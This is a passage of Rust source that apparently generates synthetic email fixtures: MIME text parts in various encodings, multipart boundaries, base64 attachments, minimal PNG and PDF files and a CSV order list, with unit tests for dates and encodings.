            let cte = if text.is_ascii() { "7bit" } else { "8bit" };
            out.extend_from_slice(format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {cte}\r\n\r\n").as_bytes());
            out.extend_from_slice(crlf(text).as_bytes());
            out.extend_from_slice(b"\r\n");
        }
        TextEncoding::QuotedPrintable => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n");
            out.extend_from_slice(quoted_printable(text.as_bytes()).as_bytes());
            out.extend_from_slice(b"\r\n");
        }
        TextEncoding::Base64 => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n");
            out.extend_from_slice(base64_lines(crlf(text).as_bytes()).as_bytes());
        }
        TextEncoding::Latin1Qp => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n");
            out.extend_from_slice(quoted_printable(&single_byte(text, Charset::Latin1)).as_bytes());
            out.extend_from_slice(b"\r\n");
        }
        TextEncoding::Windows1252 => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=windows-1252\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
            out.extend_from_slice(&crlf_bytes(&single_byte(text, Charset::Windows1252)));
            out.extend_from_slice(b"\r\n");
        }
        TextEncoding::UnknownLabel => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=\"x-mac-dutch-legacy\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
            out.extend_from_slice(&crlf_bytes(&single_byte(text, Charset::Latin1)));
            out.extend_from_slice(b"\r\n");
        }
        TextEncoding::InvalidUtf8 => {
            out.extend_from_slice(b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n");
            let mut bytes = single_byte(text, Charset::Windows1252);
            if bytes.is_ascii() {
                // Make sure there is something that is not UTF-8.
                bytes.extend_from_slice(b"\n\nPrijs: \x80 12,50 \xe9\xe9n keer");
            }
            out.extend_from_slice(&crlf_bytes(&bytes));
            out.extend_from_slice(b"\r\n");
        }
    }
}

fn plain_body(out: &mut Vec<u8>, text: &str, encoding: TextEncoding) {
    text_part(out, text, encoding);
}

fn plain_part(out: &mut Vec<u8>, text: &str) {
    text_part(out, text, TextEncoding::EightBit);
}

fn boundary(c: usize, k: usize, kind: &str) -> String {
    format!(
        "----=_{kind}_{:012x}",
        mix((c as u64) << 20 | k as u64 | 0xB0_0000_0000) & 0xFFFF_FFFF_FFFF
    )
}

/// The parts of a multipart/alternative (text, then HTML), closing delimiter included.
fn alternative_parts(out: &mut Vec<u8>, boundary: &str, text: &str, html: &str) {
    out.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
    text_part(
        out,
        text,
        if text.is_ascii() {
            TextEncoding::EightBit
        } else {
            TextEncoding::QuotedPrintable
        },
    );
    out.extend_from_slice(format!("\r\n--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n").as_bytes());
    out.extend_from_slice(quoted_printable(crlf(html).as_bytes()).as_bytes());
    out.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
}

fn alternative_part(out: &mut Vec<u8>, c: usize, k: usize, text: &str, html: &str) {
    let b = boundary(c, k, "alt");
    out.extend_from_slice(
        format!("Content-Type: multipart/alternative; boundary=\"{b}\"\r\n\r\n").as_bytes(),
    );
    alternative_parts(out, &b, text, html);
}

struct Attachment<'a> {
    name: &'a str,
    mime: &'a str,
    bytes: &'a [u8],
}

/// multipart/mixed: the body written by `body`, then the attachments.
fn mixed(
    out: &mut Vec<u8>,
    c: usize,
    k: usize,
    body: impl FnOnce(&mut Vec<u8>),
    files: &[Attachment<'_>],
) {
    let b = boundary(c, k, "mix");
    out.extend_from_slice(format!("Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n--{b}\r\n").as_bytes());
    body(out);
    for f in files {
        out.extend_from_slice(format!("\r\n--{b}\r\n").as_bytes());
        out.extend_from_slice(format!("Content-Type: {}; name=\"{}\"\r\nContent-Disposition: attachment; filename*=UTF-8''{}\r\nContent-Transfer-Encoding: base64\r\n\r\n", f.mime, encode_subject(f.name), percent_encode(f.name)).as_bytes());
        out.extend_from_slice(base64_lines(f.bytes).as_bytes());
    }
    out.extend_from_slice(format!("\r\n--{b}--\r\n").as_bytes());
}

fn percent_encode(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for &b in text.as_bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(chunk.get(1).copied().unwrap_or(0)) << 8)
            | u32::from(chunk.get(2).copied().unwrap_or(0));
        out.push(BASE64[(n >> 18) as usize & 63] as char);
        out.push(BASE64[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            BASE64[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            BASE64[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Base64 in lines of 76 characters, each ending in CRLF.
fn base64_lines(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() / 57 * 78 + 80);
    for line in bytes.chunks(57) {
        out.push_str(&base64(line));
        out.push_str("\r\n");
    }
    out
}

/// Quoted-printable with CRLF line ends and soft breaks before 76 characters.
fn quoted_printable(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 3 / 2 + 16);
    let mut line_len = 0;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == b'\r' && bytes.get(i + 1) == Some(&b'\n') {
            out.push_str("\r\n");
            line_len = 0;
            i += 2;
            continue;
        }
        if b == b'\n' {
            out.push_str("\r\n");
            line_len = 0;
            i += 1;
            continue;
        }
        let next_is_break = matches!(bytes.get(i + 1), None | Some(b'\r' | b'\n'));
        let literal =
            (b == b' ' || b == b'\t') && !next_is_break || (33..=126).contains(&b) && b != b'=';
        let width = if literal { 1 } else { 3 };
        if line_len + width > 75 {
            out.push_str("=\r\n");
            line_len = 0;
        }
        if literal {
            out.push(b as char);
        } else {
            out.push_str(&format!("={b:02X}"));
        }
        line_len += width;
        i += 1;
    }
    out
}

fn ascii_slug(text: &str, space: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for ch in text.chars() {
        let folded = match ch {
            'à' | 'á' | 'â' | 'ä' | 'ã' => "a",
            'ç' | 'Ç' => "c",
            'è' | 'é' | 'ê' | 'ë' => "e",
            'ì' | 'í' | 'î' | 'ï' | 'ı' | 'İ' => "i",
            'ò' | 'ó' | 'ô' | 'ö' | 'Ö' => "o",
            'ù' | 'ú' | 'û' | 'ü' | 'Ü' => "u",
            'ş' | 'Ş' => "s",
            'ğ' => "g",
            ' ' | '-' => space,
            c if c.is_ascii_alphanumeric() => {
                out.push(c.to_ascii_lowercase());
                continue;
            }
            _ => "",
        };
        out.push_str(folded);
    }
    out
}

// ---------------------------------------------------------------------------------
// Attachment contents: small but valid files.

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            let mask = (!(crc & 1)).wrapping_add(1);
            crc = (crc >> 1) ^ (0xEDB8_8320 & mask);
        }
    }
    !crc
}

fn adler32(bytes: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for &x in bytes {
        a = (a + u32::from(x)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

/// A small PNG (RGB, stored zlib blocks) with a two-tone pattern.
fn png_image(width: u32, height: u32, color: [u8; 3]) -> Vec<u8> {
    let mut pixels = Vec::with_capacity(((width * 3 + 1) * height) as usize);
    for y in 0..height {
        pixels.push(0); // filter: none
        for x in 0..width {
            if (x + y) % 4 == 0 {
                pixels.extend_from_slice(&[255, 255, 255]);
            } else {
                pixels.extend_from_slice(&color);
            }
        }
    }
    let mut zlib = vec![0x78, 0x01];
    let blocks: Vec<&[u8]> = pixels.chunks(65_535).collect();
    for (i, block) in blocks.iter().enumerate() {
        zlib.push(u8::from(i + 1 == blocks.len()));
        let len = block.len() as u16;
        zlib.extend_from_slice(&len.to_le_bytes());
        zlib.extend_from_slice(&(!len).to_le_bytes());
        zlib.extend_from_slice(block);
    }
    zlib.extend_from_slice(&adler32(&pixels).to_be_bytes());

    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8; 4], data: &[u8]| {
        png.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc_input = kind.to_vec();
        crc_input.extend_from_slice(data);
        png.extend_from_slice(&crc_input);
        png.extend_from_slice(&crc32(&crc_input).to_be_bytes());
    };
    let mut ihdr = Vec::with_capacity(13);
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(b"IHDR", &ihdr);
    chunk(b"IDAT", &zlib);
    chunk(b"IEND", &[]);
    png
}

/// A one-page PDF with one line of text, with a correct cross-reference table.
fn pdf_document(line: &str) -> Vec<u8> {
    let safe: String = line
        .chars()
        .filter(|c| c.is_ascii() && !matches!(c, '(' | ')' | '\\'))
        .collect();
    let content = format!("BT /F1 14 Tf 72 760 Td ({safe}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = Vec::with_capacity(objects.len());
    for (i, object) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.extend_from_slice(format!("{} 0 obj\n{object}\nendobj\n", i + 1).as_bytes());
    }
    let xref = pdf.len();
    pdf.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        pdf.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    pdf.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    pdf
}

fn csv_order_list(c: usize, plan: &Plan) -> String {
    let conv = plan.conv(c);
    let mut csv = String::from("\u{feff}artikel;omschrijving;aantal;prijs\r\n");
    for (i, (en, nl)) in PRODUCTS.iter().enumerate().take(4) {
        let name = if conv.lang == Lang::Nl { nl } else { en };
        csv.push_str(&format!(
            "BD-{:04};{name};{};{},{:02}\r\n",
            1000 + i,
            1 + (conv.index as usize + i) % 12,
            49 + i * 80,
            (i * 15) % 100
        ));
    }
    csv.push_str("BD-9001;Montage op locatie (café-tarief);1;95,00\r\n");
    csv
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn civil_dates_round_trip() {
        for days in [-1, 0, 1, 19_000, 20_000, 20_513, 30_000] {
            let (y, m, d) = civil_from_days(days);
            assert_eq!(days_from_civil(y, m, d), days);
        }
        assert_eq!(civil_from_days(0), (1970, 1, 1));
        assert_eq!(days_from_civil(2000, 3, 1), 11_017);
        assert_eq!(
            civil_from_days(days_from_civil(2026, 2, 28) + 1),
            (2026, 3, 1)
        );
    }

    #[test]
    fn dates_use_the_right_offset() {
        // 2026-03-29 01:00 UTC: summer time starts.
        let start = days_from_civil(2026, 3, 29) * DAY + HOUR;
        assert_eq!(
            rfc5322_date(start - 1, Zone::Europe),
            "Sun, 29 Mar 2026 01:59:59 +0100"
        );
        assert_eq!(
            rfc5322_date(start, Zone::Europe),
            "Sun, 29 Mar 2026 03:00:00 +0200"
        );
        assert_eq!(
            rfc5322_date(start, Zone::Uk),
            "Sun, 29 Mar 2026 02:00:00 +0100"
        );
        assert_eq!(
            rfc5322_date(start, Zone::Turkey),
            "Sun, 29 Mar 2026 04:00:00 +0300"
        );
    }

    #[test]
    fn png_is_well_formed() {
        let png = png_image(4, 3, [1, 2, 3]);
        assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"));
        assert!(png.ends_with(&crc32(b"IEND").to_be_bytes()));
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
    }

    #[test]
    fn pdf_xref_points_at_objects() {
        let pdf = pdf_document("Invoice 12345");
        let find = |needle: &[u8]| pdf.windows(needle.len()).rposition(|w| w == needle);
        let start = find(b"startxref\n").expect("startxref") + 10;
        let digits: Vec<u8> = pdf[start..]
            .iter()
            .copied()
            .take_while(u8::is_ascii_digit)
            .collect();
        let xref_at: usize = String::from_utf8_lossy(&digits).parse().expect("offset");
        assert!(pdf[xref_at..].starts_with(b"xref"));
        let first = find(b"1 0 obj").expect("object 1");
        let entry = format!("{first:010} 00000 n");
        assert!(find(entry.as_bytes()).is_some());
    }

    #[test]
    fn quoted_printable_lines_stay_short() {
        let qp = quoted_printable("Café ".repeat(40).as_bytes());
        assert!(qp.lines().all(|l| l.len() <= 76), "{qp}");
        assert!(qp.contains("Caf=C3=A9"));
    }

    #[test]
    fn encoded_words() {
        assert_eq!(encode_subject("Factuur"), "Factuur");
        assert_eq!(encode_subject("Caf\u{e9}"), "=?UTF-8?Q?Caf=C3=A9?=");
        assert_eq!(
            mailbox("Ayşe Yılmaz", "a@b.example"),
            "=?UTF-8?B?QXnFn2UgWcSxbG1heg==?= <a@b.example>"
        );
        assert_eq!(encode_word_latin1("Renée"), "=?ISO-8859-1?Q?Ren=E9e?=");
    }
}
